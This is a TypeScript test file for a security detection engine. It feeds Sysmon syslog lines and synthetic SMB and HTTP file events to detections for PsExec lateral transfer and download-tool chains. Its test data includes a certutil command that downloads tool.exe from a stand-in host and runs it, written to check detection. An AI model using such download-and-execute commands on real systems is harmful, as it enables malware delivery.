/**
 * Chain and lateral-transfer fed by the real syslog path (sensor/syslog-ingest.ts → SyslogEvent + HostEvent):
 * the corpus Sysmon 11/1 PsExec remote-copy sample joined to an SMB write seen on the network through the
 * syslog sender's address (host named only by its Computer name), and a certutil chain written as RFC 5424
 * Sysmon lines.
 */
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { test } from 'node:test'
import { Counters } from '../analytics/counters.js'
import type { DetectionContext, DetectionDefinition } from '../analytics/detection.js'
import chain from '../analytics/detections/chain.js'
import downloadTool from '../analytics/detections/download-tool.js'
import lateral from '../analytics/detections/lateral-transfer.js'
import type { AlertEvent, FileEvent, SensorEvent } from '../analytics/events.js'
import { AddressSet, DEFAULT_INTERNAL_CIDRS } from '../analytics/net/address-set.js'
import { SyslogIngest } from '../sensor/syslog-ingest.js'

const CORPUS = path.resolve(import.meta.dirname, '../../shared/corpus')
const skip = existsSync(CORPUS) ? false : 'corpus ../shared/corpus not present'
const ctx: DetectionContext = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }

function ingest(lines: string[], peer: string): SensorEvent[] {
  const out: SensorEvent[] = []
  const si = new SyslogIngest({ emit: (e) => out.push(e), counters: new Counters(), source: 'syslog-udp:0.0.0.0:514' })
  for (const l of lines) {
    const b = Buffer.from(l)
    si.handleMessage(b, 0, b.length, peer, 0)
  }
  return out
}

/** Runs detections in order over events (alerts of the first ones are fed to the later ones), plus onEnd. */
function runAll(defs: DetectionDefinition<object>[], events: SensorEvent[]): AlertEvent[] {
  const insts = defs.map((d) => ({ d, i: d.create(d.params, ctx) }))
  const alerts: AlertEvent[] = []
  const feed = (ev: SensorEvent, from: number) => {
    for (let k = from; k < insts.length; k++) {
      const x = insts[k]
      if (x === undefined || !x.d.inputs.includes(ev.kind)) continue
      for (const a of x.i.onEvent(ev) ?? []) {
        alerts.push(a)
        feed(a, k + 1)
      }
    }
  }
  for (const ev of events) feed(ev, 0)
  const last = events[events.length - 1]?.ts ?? 0
  insts.forEach((x, k) => {
    for (const a of x.i.onEnd?.(last) ?? []) {
      alerts.push(a)
      feed(a, k + 1)
    }
  })
  return alerts
}

test('corpus PsExec remote copy (Sysmon 11 by System, Sysmon 1) + the SMB write to that host = T1570 chain', {
  skip,
}, () => {
  const lines = readFileSync(
    path.join(CORPUS, 'syslog/windows/evtxattack_sysmon11_psexesvc_remote_copy.rfc5424.log'),
    'utf8',
  )
    .split('\n')
    .filter((l) => l !== '')
  // The forwarder on 10.66.1.9 is the endpoint itself; its HostEvents carry only the Computer name.
  const host = ingest(lines, '10.66.1.9')
  const hostEvents = host.filter((e) => e.kind === 'host')
  assert.equal(hostEvents.length, 2)
  const c = hostEvents[0]
  assert.ok(c)
  const smb: FileEvent = {
    kind: 'file',
    ts: c.ts - 0.2,
    source: 'pcap:eth1',
    uid: 'Csmb1',
    orig_h: '10.66.0.2',
    orig_p: 49700,
    resp_h: '10.66.1.9',
    resp_p: 445,
    proto: 'tcp',
    file_proto: 'smb',
    name: '\\\\04246w-win10\\ADMIN$\\PSEXESVC.exe',
    direction: 'upload',
    sender_is_orig: true,
    bytes: 145568,
    missing_bytes: 0,
    type: 'pe',
    type_detail: 'pe32',
    complete: true,
    head_hex: '4d5a90000300000004000000ffff0000',
    context: { share: '\\\\04246w-win10\\ADMIN$', path: 'PSEXESVC.exe' },
  }
  const events = [smb, ...host].sort((a, b) => a.ts - b.ts)
  const alerts = runAll([lateral, chain], events)
  const lat = alerts.filter((a) => a.detection === 'lateral-transfer')
  // One from the network (the SMB write), one from the host (Sysmon 11 by System).
  assert.equal(lat.length, 2)
  const ch = alerts.filter((a) => a.detection === 'chain')
  assert.equal(ch.length, 1)
  const a = ch[0]
  assert.ok(a)
  assert.equal(a.technique, 'T1570')
  assert.equal(a.details?.links_present, 'transfer,file_create,execution')
  assert.equal(a.details?.links_missing, 'download_tool')
  assert.equal(a.host, '04246w-win10.threebeesco.com')
  assert.equal(a.details?.host_ip, '10.66.1.9')
  assert.ok(a.score > Math.max(...lat.map((x) => x.score)))
  // Without the syslog sender address the name cannot be joined to 10.66.1.9: no transfer link, no chain
  // (file creation + execution alone are not one).
  const noPeer = runAll(
    [chain],
    [smb, ...host.filter((e) => e.kind === 'host')].sort((x, y) => x.ts - y.ts),
  )
  assert.deepEqual(noPeer, [])
})

test('certutil chain written as RFC 5424 Sysmon lines, through the real syslog parser and download-tool', () => {
  const T0 = Date.UTC(2026, 0, 15, 9, 30, 0) / 1000
  const line = (ts: number, id: number, data: Record<string, string>) => {
    const iso = new Date(ts * 1000).toISOString()
    const fields = Object.entries(data)
      .map(([k, v]) => `<Data Name="${k}">${v}</Data>`)
      .join('')
    return (
      `<14>1 ${iso} WS01.corp.example Microsoft-Windows-Sysmon 2580 ${id} - <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">` +
      `<System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}" /><EventID Qualifiers="">${id}</EventID>` +
      `<Version>5</Version><Level>4</Level><Task>${id}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>` +
      `<TimeCreated SystemTime="${iso.replace('T', ' ').replace('Z', '')}" /><EventRecordID>${1000 + id}</EventRecordID>` +
      `<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS01.corp.example</Computer><Security UserID="S-1-5-21-1" /></System>` +
      `<EventData><Data Name="RuleName" /><Data Name="UtcTime">${iso.replace('T', ' ').replace('Z', '')}</Data>${fields}</EventData></Event>`
    )
  }
  const lines = [
    line(T0, 1, {
      Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: 'certutil -urlcache -split -f http://198.51.100.80/tool.exe C:\\Users\\Public\\tool.exe',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      User: 'CORP\\alice',
    }),
    line(T0 + 1, 11, { Image: 'C:\\Windows\\System32\\certutil.exe', TargetFilename: 'C:\\Users\\Public\\tool.exe' }),
    line(T0 + 35, 1, {
      Image: 'C:\\Users\\Public\\tool.exe',
      CommandLine: 'C:\\Users\\Public\\tool.exe',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      User: 'CORP\\alice',
    }),
  ]
  const host = ingest(lines, '10.66.0.2')
  assert.equal(host.filter((e) => e.kind === 'host').length, 3)
  const dl: FileEvent = {
    kind: 'file',
    ts: T0 + 3,
    source: 'pcap:eth1',
    uid: 'Cdl1',
    orig_h: '10.66.0.2',
    orig_p: 49832,
    resp_h: '198.51.100.80',
    resp_p: 80,
    proto: 'tcp',
    file_proto: 'http',
    name: 'tool.exe',
    direction: 'download',
    sender_is_orig: false,
    bytes: 73802,
    missing_bytes: 0,
    type: 'pe',
    complete: true,
    head_hex: '4d5a9000',
  }
  const alerts = runAll(
    [downloadTool, chain],
    [...host, dl].sort((a, b) => a.ts - b.ts),
  )
  const ch = alerts.filter((a) => a.detection === 'chain')
  assert.equal(ch.length, 1)
  assert.equal(ch[0]?.details?.complete, true)
  assert.equal(ch[0]?.technique, 'T1105')
  assert.deepEqual(
    ch[0]?.evidence.map((e) => e.link),
    ['download_tool', 'file_create', 'transfer', 'execution'],
  )
})
